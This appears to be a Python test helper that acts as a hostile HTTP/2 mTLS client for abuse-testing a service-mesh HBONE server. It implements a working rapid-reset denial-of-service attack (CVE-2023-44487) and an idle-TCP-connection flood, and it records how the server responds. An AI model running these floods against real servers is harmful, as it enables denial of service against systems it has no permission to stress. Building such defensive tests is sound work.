"""A hostile HBONE client for abuse tests: real TLS 1.3 with a valid mesh certificate, frames
built with hyperframe and hpack (not h2, which would refuse to misbehave).

Attacks so far: `rapid_reset` (HEADERS(CONNECT) + RST_STREAM pairs, CVE-2023-44487) and
`idle_connections` (TCP connections to the HBONE port that never start TLS).
One thread drives the connection (an SSL object must not be used from two at once): between
batches it reads what the server sent back (GOAWAY codes, responses, resets) and notices the end.
Sockets are created inside a pod's netns by the caller's factory (`Place.socket`), so traffic
leaves from that pod's address.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

import hpack
from hyperframe.frame import (
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from agent.identity import pki

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
SocketFactory = Callable[[], socket.socket]


def client_context(ca_dir: Path, uri: str, work: Path) -> ssl.SSLContext:
    """TLS 1.3 client context with a fresh leaf for `uri` from the CA root in ca_dir."""
    authority = pki.Authority.from_pem((ca_dir / "root-cert.pem").read_bytes(),
                                       (ca_dir / "root-key.pem").read_bytes())
    key = pki.generate_key()
    leaf = authority.issue(key.public_key(), timedelta(hours=1), uris=[uri])
    cert, key_path = work / "hostile.pem", work / "hostile.key"
    cert.write_text("".join(authority.chain_pems(leaf)), encoding="ascii")
    key_path.write_bytes(pki.key_to_pem(key))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False  # SPIFFE URIs, no host names; the chain is still verified
    ctx.load_verify_locations(cafile=str(ca_dir / "root-cert.pem"))
    ctx.load_cert_chain(str(cert), str(key_path))
    ctx.set_alpn_protocols(["h2"])
    return ctx


@dataclass
class Seen:
    """What the server sent back on one connection."""

    goaway_codes: list[int] = field(default_factory=list)
    responses: int = 0
    resets: int = 0
    frames: int = 0
    ended: bool = False  # the server closed (or reset) the connection
    error: str = ""


class HostileH2:
    """One mTLS HTTP/2 connection to an HBONE server that sends what we tell it to."""

    def __init__(self, make_socket: SocketFactory, ctx: ssl.SSLContext,
                 server: tuple[str, int], timeout: float = 10.0) -> None:
        raw = make_socket()
        raw.settimeout(timeout)
        raw.connect(server)
        self.tls = ctx.wrap_socket(raw, server_hostname=None)
        self.encoder = hpack.Encoder()
        self.timeout = timeout
        self.seen = Seen()
        self._buf = b""
        self._send(PREFACE + SettingsFrame(0).serialize())

    def _send(self, data: bytes) -> bool:
        try:
            self.tls.sendall(data)
        except OSError as exc:
            self.seen.error = self.seen.error or f"send: {exc}"
            return False
        return True

    def rapid_reset(self, authority: str, pairs: int, batch: int = 200) -> int:
        """HEADERS(CONNECT authority) then RST_STREAM(CANCEL) on `pairs` new streams, written
        `batch` pairs at a time; returns how many pairs went out before the server closed."""
        headers = [(":method", "CONNECT"), (":authority", authority)]
        sent = 0
        sid = 1
        while sent < pairs:
            chunk = bytearray()
            for _ in range(min(batch, pairs - sent)):
                h = HeadersFrame(sid, self.encoder.encode(headers))
                h.flags.add("END_HEADERS")
                chunk += h.serialize()
                chunk += RstStreamFrame(sid, CANCEL).serialize()
                sid += 2
            if not self._send(bytes(chunk)):
                break
            sent += min(batch, pairs - sent)
            self.pump(0.0)
        return sent

    def wait_end(self, timeout: float) -> bool:
        """Read until the server ends the connection or `timeout` passes."""
        deadline = time.monotonic() + timeout
        while not self.seen.ended and time.monotonic() < deadline:
            self.pump(min(0.2, max(0.0, deadline - time.monotonic())))
        return self.seen.ended

    def pump(self, wait: float) -> None:
        """Read and handle whatever the server sent, waiting up to `wait` for the first byte."""
        if self.seen.ended:
            return
        self.tls.settimeout(wait if wait > 0 else 0.0)
        try:
            while True:
                data = self.tls.recv(65536)
                if not data:
                    self.seen.ended = True
                    return
                self._buf += data
                self._frames()
                self.tls.settimeout(0.0)
        except (ssl.SSLWantReadError, TimeoutError, BlockingIOError):
            pass
        except (OSError, ValueError) as exc:
            self.seen.error = self.seen.error or f"recv: {exc}"
            self.seen.ended = True
        finally:
            self.tls.settimeout(self.timeout)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.tls.close()

    def _frames(self) -> None:
        while len(self._buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._buf[:9]))
            if len(self._buf) < 9 + length:
                return
            frame.parse_body(memoryview(self._buf[9:9 + length]))
            self._buf = self._buf[9 + length:]
            self._on_frame(frame)

    def _on_frame(self, frame: Frame) -> None:
        self.seen.frames += 1
        if isinstance(frame, GoAwayFrame):
            self.seen.goaway_codes.append(int(frame.error_code))
        elif isinstance(frame, HeadersFrame):
            self.seen.responses += 1
        elif isinstance(frame, RstStreamFrame):
            self.seen.resets += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self._send(ack.serialize())
        elif isinstance(frame, WindowUpdateFrame):
            pass


def idle_connections(make_socket: SocketFactory, server: tuple[str, int],
                     count: int) -> list[socket.socket]:
    """`count` TCP connections to `server` that never send a byte (the caller closes them).
    Connects the server reset at once still count: they are what a flood looks like."""
    socks = []
    for _ in range(count):
        s = make_socket()
        s.settimeout(10)
        try:
            s.connect(server)
        except OSError:
            s.close()
            continue
        socks.append(s)
    return socks
